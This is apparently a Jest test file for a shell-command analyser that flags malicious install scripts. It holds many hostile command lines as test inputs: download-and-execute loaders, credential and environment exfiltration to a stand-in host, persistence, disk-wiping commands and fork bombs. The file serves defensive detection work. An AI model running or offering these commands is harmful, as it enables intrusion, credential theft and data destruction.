import { describe, expect, test } from '@jest/globals';
import fc from 'fast-check';
import { shellCharacters, shellFlows } from '../../../src/packages/profile/shell-flows.js';
import { shellCommands } from '../../../src/packages/profile/shell-syntax.js';

const url = 'https://drop.example.invalid/x';
const flows = (text: string): string[] => [...new Set(shellFlows(text).flows.map(({ source, sink }) => `${source} ${sink}`))].sort();
const hosts = (text: string): string[] => [...new Set(shellFlows(text).flows.flatMap((flow) => flow.hosts))];
const signals = (text: string, kind: string): string[] => shellFlows(text).signals.filter((one) => one.kind === kind).map(({ what, key }) => `${what} ${key}`);

describe('what is fetched and run', () => {
  test.each([
    `curl -fsSL ${url} | sh`, `curl ${url} | sudo -E bash -`, `wget -qO- ${url} | bash`, `sh -c "curl ${url} | sh"`, `bash <(curl -s ${url})`, `bash -c "$(curl -fsSL ${url})"`, `sh -c "\`curl ${url}\`"`, `$(curl ${url})`, `eval "$(curl ${url})"`,
    `. <(curl ${url})`, `source <(wget -qO- ${url})`, `curl ${url} > /tmp/x; sh /tmp/x`, `curl -o /tmp/x ${url} && chmod +x /tmp/x && /tmp/x`, `curl -sLo/tmp/x ${url}; chmod 755 /tmp/x; /tmp/x &`, `wget ${url} && chmod +x x && ./x`,
    `wget -O /tmp/.x ${url}\nchmod +x /tmp/.x\nnohup /tmp/.x >/dev/null 2>&1 &`, `curl -O ${url}; ./x`, `cd /tmp && curl -o a ${url}\nmv a b\n./b`, `P=/tmp/k; curl -o $P ${url}; $P`, `C=curl; $C ${url} | sh`, `c=cu; r=rl; $c$r ${url} | sh`,
    `X=$(curl -s ${url}); eval "$X"`, `U=${url}; curl $U | sh`, `curl ${url} | python3 -`, `curl ${url} | node`, `curl ${url} -o i.py; python i.py`, `curl ${url} | tee /tmp/a | sh`, `(curl ${url}) | sh`, `{ curl ${url} ; } | sh`.replace('; }', '; echo; }').replace('{ ', '( ').replace('}', ')'),
    `bash <<< "$(curl ${url})"`, `curl ${url} | xargs -I{} sh -c {}`, `cat <<EOF > /tmp/a.sh\ncurl ${url} | sh\nEOF`, `bash <<'EOF'\ncurl ${url} | sh\nEOF`, `iwr ${url} | iex`, `powershell -c "iex (iwr ${url})"`, `powershell -NoP -Command "IEX(New-Object Net.WebClient).DownloadString('${url}')"`,
    `$c = (irm ${url}); iex $c`, `Invoke-WebRequest -Uri ${url} -OutFile a.exe; Start-Process a.exe`, `certutil -urlcache -split -f ${url}.exe a.exe & start a.exe`, `certutil -urlcache -f ${url} %TEMP%\\a.exe && %TEMP%\\a.exe`,
    `bitsadmin /transfer j ${url} C:\\a.exe & C:\\a.exe`, `cmd /c "curl -o %TEMP%\\x.exe ${url} && start /b %TEMP%\\x.exe"`, `curl ${url} -o x.dll & rundll32 x.dll,main`, `@echo off\r\ncurl ${url} -o a.bat\r\ncall a.bat`, `curl -o x.gz ${url}; gunzip x.gz; ./x`, `if true; then curl ${url} | sh; fi`,
    `c\\url ${url} | s\\h`, `"curl" ${url} | 'sh'`,
  ])('%s', (text) => {
    expect(flows(text)).toContain('download exec');
    expect(hosts(text)).toContain('drop.example.invalid');
  });

  test.each([
    'echo aGk= | base64 -d | sh', 'echo "aGk=" | base64 --decode | bash', 'base64 -d <<< aGk= | sh', 'bash -c "$(echo aGk= | base64 -d)"', 'eval $(echo aGk= | base64 -D)', 'base64 -d p > /tmp/x; chmod +x /tmp/x; /tmp/x', 'openssl enc -d -aes-256-cbc -in a -k b | sh', 'xxd -r -p a | sh',
    'powershell -enc aQBlAHgA', 'powershell.exe -NoProfile -EncodedCommand aQBlAHgA', 'certutil -decode a.txt a.exe & a.exe', 'iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String("aGk=")))', '$b=[Convert]::FromBase64String("aGk="); iex $b', 'gunzip -c p.gz > /tmp/p; sh /tmp/p',
    "printf '\\x63\\x75\\x72\\x6c\\x20\\x61' | sh", 'X=$(echo aGk= | base64 -d); $X',
  ])('decoded: %s', (text) => { expect(flows(text)).toContain('decoded exec'); });

  test('what an encoded command says is read', () => {
    const body = Buffer.from(`iwr ${url} | iex`, 'utf16le').toString('base64');
    expect(flows(`powershell -enc ${body}`)).toEqual(['decoded exec', 'download exec']);
  });
});

describe('what is carried away', () => {
  test.each([
    [`env | curl -d @- ${url}`, 'environment network'], [`curl -d "$(env)" ${url}`, 'environment network'], [`printenv | base64 | curl -X POST --data-binary @- ${url}`, 'environment network'], [`curl -F file=@~/.npmrc ${url}`, 'credential-file network'],
    [`curl -T ~/.aws/credentials ${url}`, 'credential-file network'], [`cat ~/.ssh/id_rsa | nc drop.example.invalid 99`, 'credential-file network'], [`tar cz ~/.ssh | nc drop.example.invalid 99`, 'credential-file network'], [`cp ~/.npmrc /tmp/n; cat ~/.npmrc > /tmp/o; curl -F f=@/tmp/o ${url}`, 'credential-file network'],
    [`curl ${url}/$NPM_TOKEN`, 'secret-variable network'], [`curl -H "X: \${GITHUB_TOKEN}" ${url}`, 'secret-variable network'], [`wget --post-data="t=$AWS_SECRET_ACCESS_KEY" ${url}`, 'secret-variable network'], [`T=$NPM_TOKEN; curl ${url}?$T`, 'secret-variable network'],
    [`curl ${url}?u=$(whoami)`, 'identity network'], [`dig $(hostname).drop.example.invalid`, 'identity network'], [`cat ~/.npmrc > /dev/tcp/drop.example.invalid/80`, 'credential-file network'], [`Invoke-RestMethod -Method Post -Body (Get-ChildItem env:) ${url}`, 'environment network'],
    [`curl -d "%NPM_TOKEN%" ${url}`, 'secret-variable network'], [`Invoke-WebRequest ${url} -Method POST -Body $env:NPM_TOKEN`, 'secret-variable network'],
  ])('%s', (text, expected) => {
    expect(flows(text)).toContain(expected);
    expect(hosts(text)).toEqual(['drop.example.invalid']);
  });
});

describe('programs that are fetched by what runs them', () => {
  test.each<readonly [string, string]>([
    [`deno run -A ${url}.ts`, 'drop.example.invalid'], [`deno ${url}.ts`, 'drop.example.invalid'], [`npx -y ${url}.tgz`, 'drop.example.invalid'], [`npx --yes --package ${url}.tgz tool`, 'drop.example.invalid'], [`bunx ${url}.tgz`, 'drop.example.invalid'], [`bun x ${url}.tgz`, 'drop.example.invalid'],
    [`pnpm dlx git+https://drop.example.invalid/a.git`, 'drop.example.invalid'], ['npm exec --yes github:acme/helper', 'github.com'], ['npm install --no-save github:acme/helper', 'github.com'], ['npm i acme/helper#main', 'github.com'], ['yarn add git@drop.example.invalid:a/b.git', 'drop.example.invalid'], [`npm i x@${url}.tgz`, 'drop.example.invalid'],
    [`pip install ${url}.whl`, 'drop.example.invalid'], ['python3 -m pip install git+https://drop.example.invalid/a.git', 'drop.example.invalid'], [`pip3 install -r ${url}.txt`, 'drop.example.invalid'], ['uvx --from git+https://drop.example.invalid/a.git tool', 'drop.example.invalid'], ['go run drop.example.invalid/a@latest', 'drop.example.invalid'], ['cargo install --git https://drop.example.invalid/a.git', 'drop.example.invalid'],
    [`node --import ${url}.mjs x.js`, 'drop.example.invalid'], [`mshta ${url}.hta`, 'drop.example.invalid'], [`regsvr32 /s /i:${url} scrobj.dll`, 'drop.example.invalid'], [`cd /tmp && sudo npx -y ${url}.tgz`, 'drop.example.invalid'],
    ['git clone https://drop.example.invalid/a/b.git && cd b && npm install', 'drop.example.invalid'], ['git clone --depth 1 https://drop.example.invalid/a/b.git /tmp/t && sh /tmp/t/x.sh', 'drop.example.invalid'], ['D=/tmp/t; git clone git@drop.example.invalid:a/b.git $D; node $D/x.js', 'drop.example.invalid'], ['git clone https://drop.example.invalid/a/b.git; cd b; make', 'drop.example.invalid'], ['git clone https://drop.example.invalid/a/b t; ./t/install', 'drop.example.invalid'],
  ])('%s', (text, host) => {
    expect(flows(text)).toEqual(['download exec']);
    expect(hosts(text)).toContain(host);
  });
  test.each([
    'deno run -A x.ts', 'deno run x.ts https://a.example', 'npx -y tool', 'npx -y tool https://a.example/x.tgz', 'npx http-server --proxy https://a.example', 'npm install', 'npm install left-pad', 'npm install ./vendor', 'npm install @acme/left', 'npm install --registry https://npm.example.invalid/ left', 'npm ci --registry=https://npm.example.invalid/', 'npm run build https://a.example', 'yarn add left',
    'pip install left', 'pip install -r requirements.txt', 'pip install --index-url https://a.example/simple left', 'go build ./...', 'cargo install left', 'git clone https://git.example.invalid/a/b.git', 'git clone https://git.example.invalid/a/b.git d && node x.js', 'git clone https://git.example.invalid/a/b.git d && cp d/x.txt .', 'git clone https://git.example.invalid/a/b.git b && cd .. && npm test', 'node --import ./x.mjs y.js',
  ])('nothing of it: %s', (text) => { expect(flows(text)).toEqual([]); });
});

describe('machines that are handed over, and what is lost', () => {
  test.each([
    ['docker run -d --privileged -v /:/host x', 'bootstrap', 'container docker privileged'], ['podman run -v /:/h x', 'bootstrap', 'container podman volume of the machine'], ['docker run --rm -v "$HOME":/h x', 'bootstrap', 'container docker volume of the machine'], ['docker run --pid=host --rm x', 'bootstrap', 'container docker privileged'], ['docker run --mount type=bind,source=/,target=/h x', 'bootstrap', 'container docker volume of the machine'],
    ['git push --force --all origin', 'destructive', 'overwrite git'], ['git push -f --mirror u', 'destructive', 'overwrite git'], ['git push --mirror u', 'destructive', 'overwrite git'], [':(){ :|:& };:', 'destructive', 'fork-bomb fork bomb'], ['bomb() { bomb | bomb & }; bomb', 'destructive', 'fork-bomb fork bomb'], ['sh -c ":(){ :|:& };:"', 'destructive', 'fork-bomb fork bomb'], ['%0|%0', 'destructive', 'fork-bomb fork bomb'],
  ])('%s', (text, kind, expected) => { expect(signals(text, kind)).toContain(expected); });
  test.each(['docker run --rm x', 'docker run -v "$PWD":/work x', 'docker run -v /tmp/x:/x x', 'docker build --privileged .', 'git push', 'git push --force origin gh-pages', 'git push --all', 'f() { a | b & }; f', 'f() { f2 | f3; }; f'])('none of it: %s', (text) => { expect([...signals(text, 'bootstrap'), ...signals(text, 'destructive')]).toEqual([]); });
});

describe('what is left behind, destroyed, waited for', () => {
  test.each([
    ['echo x >> ~/.bashrc', 'shell .bashrc'], ['tee -a "$HOME/.zshrc" < x', 'shell .zshrc'], ['cp x ~/.config/autostart/', 'service autostart'], ['(crontab -l; echo "* * * * * x") | crontab -', 'scheduler crontab'], ['schtasks /create /tn a /tr b /sc onlogon', 'scheduler schtasks'],
    ['systemctl --user enable x.service', 'service systemctl'], ['reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v a /d b /f', 'scheduler run-key'], ['launchctl load ~/Library/LaunchAgents/x.plist', 'scheduler launchctl'], ['cp x .git/hooks/pre-commit', 'git-hook .git/hooks'],
    ['echo registry=https://npm.example.invalid/ >> ~/.npmrc', 'settings .npmrc'], ['echo k >> ~/.ssh/authorized_keys', 'login .ssh/authorized_keys'], ['cp x ~/.local/bin/sudo', 'program .local/bin'], ['npm config set registry https://npm.example.invalid/', 'settings npm config registry'], ['npm set @acme:registry=https://npm.example.invalid/', 'settings npm config @acme:registry'],
    ['yarn config set npmRegistryServer https://npm.example.invalid/', 'settings npm config npmregistryserver'], ['git config --global alias.st "!sh x"', 'settings git config alias'], ['git config credential.helper ./c', 'settings git config credential'], ['git config --global url.https://git.example.invalid/.insteadOf https://github.com/', 'settings git config url'],
    ['git config --global core.hooksPath /tmp/h', 'git-hook core.hookspath'], ['cat > .claude/settings.json <<EOF\n{}\nEOF', 'agent .claude'], ['mkdir -p .vscode; echo {} > .vscode/tasks.json', 'editor .vscode/tasks.json'], ['copy a.bat "%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\"', 'shell startup'],
  ])('%s', (text, expected) => { expect(signals(text, 'persistence')).toContain(expected); });
  test.each(['npm config get registry', 'npm config set fund false', 'npm config set loglevel error', 'git config user.name x', 'git config --get credential.helper', 'git config --global --unset url.https://git.example.invalid/.insteadOf', 'git config core.autocrlf false', 'git config core.hooksPath .husky', 'cat ~/.npmrc', 'ls ~/.local/bin', 'cp .npmrc.example x', 'npm test set registry'])('nothing stays by: %s', (text) => { expect(signals(text, 'persistence')).toEqual([]); });
  test('what is fetched and stays', () => { expect(flows(`curl ${url} >> ~/.bashrc`)).toEqual(['download persistence']); });

  test.each([
    ['rm -rf ~', 'wipe rm'], ['rm -rf /', 'wipe rm'], ['rm -rf "$HOME"/*', 'wipe rm'], ['sudo rm --recursive --force /*', 'wipe rm'], ['find ~ -type f -delete', 'wipe find'], ['find / -exec rm -f {} \\;', 'wipe find'], ['find $HOME -type f | xargs shred -uvz', 'overwrite shred'],
    ['cipher /w:C:\\', 'overwrite cipher'], ['del /f /s /q C:\\*', 'wipe del'], ['del /F /Q /S "%USERPROFILE%\\*"', 'wipe del'], ['rd /s /q %USERPROFILE%', 'wipe rd'], ['format c: /q', 'wipe format'], ['Remove-Item -Recurse -Force $env:USERPROFILE', 'wipe remove-item'], ['dd if=/dev/zero of=/dev/sda', 'overwrite dd'],
  ])('%s', (text, expected) => { expect(signals(text, 'destructive')).toEqual([expected]); });

  test.each([
    ['if [ -n "$CI" ]; then exit 0; fi', 'ci ci'], ['[[ $GITHUB_ACTIONS == true ]] || exit 0', 'ci ci'], ['sleep 600', 'time sleep'], ['sleep 5m', 'time sleep'], ['if [ "$LANG" = ru_RU.UTF-8 ]; then exit; fi', 'locale locale'], ['if [ $(date +%s) -gt 1767225600 ]; then x; fi', 'time date'],
    ['[ "$(hostname)" = x ] && y', 'host name'], ['systemd-detect-virt -q && exit', 'sandbox virtual'], ['curl -s https://ipinfo.io/country', 'place address'],
  ])('%s', (text, expected) => { expect(signals(text, 'gate')).toContain(expected); });

  test.each([
    ['npm publish --access public', 'worm', 'publish npm publish'], ['npm token list', 'worm', 'tokens npm token'], ['gh repo create x --public', 'worm', 'repository user/repos'], ['./config.sh --url https://a.example.com --token t', 'worm', 'runner actions-runner'],
    ['curl -fsSL https://bun.sh/install | bash', 'bootstrap', 'runtime bun.sh/install'], ['npm install --no-save axios', 'bootstrap', 'package npm install'], ['trufflehog filesystem / --json', 'bootstrap', 'scanner trufflehog'], ['claude --dangerously-skip-permissions -p x', 'agent', 'skip-permissions --dangerously-skip-permissions'],
    ['curl http://169.254.169.254/latest/meta-data/', 'credentials', 'metadata-service 169.254.169.254'], ['echo "$NPM_TOKEN"', 'credentials', 'variable NPM_TOKEN'], [`nc drop.example.invalid 9`, 'host', 'name drop.example.invalid'],
  ])('%s', (text, kind, expected) => { expect(signals(text, kind)).toContain(expected); });
});

describe('ordinary scripts', () => {
  test.each([
    `curl -o data.json ${url}`, `wget ${url}`, 'chmod +x bin/run && ./bin/run', 'node-gyp rebuild', 'node-gyp-build || prebuild-install -r napi', 'husky install', 'husky && chmod +x .husky/pre-commit', 'rm -rf dist node_modules', 'rm -rf ./build/*', 'rm -rf "$TMP/x"', 'rimraf dist',
    'set -e\nset -o pipefail\nnvm use 20\nnpm ci\nnpm test', '. ~/.nvm/nvm.sh && nvm use', 'source ./env.sh', 'echo "export PATH=$PATH:x"', 'cat package.json | jq .version', 'sleep 1', 'tsc && node dist/index.js', 'env NODE_ENV=test jest', 'cross-env CI=true react-scripts test', 'find . -name "*.map" -delete',
    'find dist -type f -exec rm {} +', 'git diff | cat', 'uname -s | tr A-Z a-z', 'eval "$(ssh-agent -s)"', 'sh ./scripts/build.sh "$@"', 'node -e "try{require(\'./postinstall\')}catch(e){}"', 'cat <<EOF\nusage: curl https://a.example.com/x | sh\nEOF', '# curl https://a.example.com | sh',
    'base64 -d logo.txt > logo.png', 'tar xzf vendor.tgz && make', 'crontab -l', 'systemctl status x', 'reg query HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run', 'npm run build && npm run lint', '@echo off\r\nnode "%~dp0\\cli.js" %*', '#!/bin/sh\nbasedir=$(dirname "$(echo "$0" | sed -e \'s,\\\\,/,g\')")\nexec node "$basedir/cli.js" "$@"',
    'if [ "$(uname)" = Darwin ]; then make mac; fi', 'python setup.py install', 'docker build -t x .', 'gzip -d data.gz', "echo don't stop", 'node a.js > out.txt 2>&1', 'npm install', 'npm i --ignore-scripts', 'del /q dist\\*', 'Remove-Item -Recurse -Force ./dist',
  ])('%s', (text) => {
    expect(flows(text)).toEqual([]);
    expect(shellFlows(text).signals.filter(({ kind }) => kind !== 'host')).toEqual([]);
  });
});

describe('any text', () => {
  const piece = fc.constantFrom('curl ', 'https://a.example.invalid/x', '|', ' sh', '$(', '`', '(', ')', '"', "'", '\\', '<<EOF\n', 'EOF\n', '\n', '; ', '&&', '>', '>>', '<', ' X=', '$X', '${', '}', ' {', 'env', 'base64 -d', ' ~/.npmrc', '-c', '^', '#', '\0', '\u{1F600}', 'powershell -enc ', 'aQBlAHgA');
  test('never throws; places lie inside; twice the text is at most about twice the commands', () => {
    fc.assert(fc.property(fc.array(piece, { maxLength: 40 }), (pieces) => {
      const text = pieces.join('');
      for (const { start, end } of [...shellFlows(text).flows, ...shellFlows(text).signals]) {
        expect(start).toBeGreaterThanOrEqual(0);
        expect(end).toBeGreaterThanOrEqual(start);
      }
    }), { numRuns: 400, seed: 5 });
  });

  test.each(['$(', '`', '(', '"$(', "'", '<(', '<<E\n', '{ ', 'X=$X$X;', 'a|', '$(`', '")("'])('many of %j', (unit) => {
    const count = (times: number): number => shellCommands(unit.repeat(times), true).length;
    expect(count(2_000)).toBeLessThanOrEqual(2 * count(1_000) + 8);
    expect(() => shellFlows(unit.repeat(2_000))).not.toThrow();
  });

  test('a longer text is said to be cut', () => {
    expect(shellFlows('#'.repeat(shellCharacters + 1)).cut).toBe(true);
    expect(shellFlows('x').cut).toBe(false);
    expect(shellFlows(`X=abc;${'X=$X$X;'.repeat(2_000)}`).cut).toBe(true);
  });
});
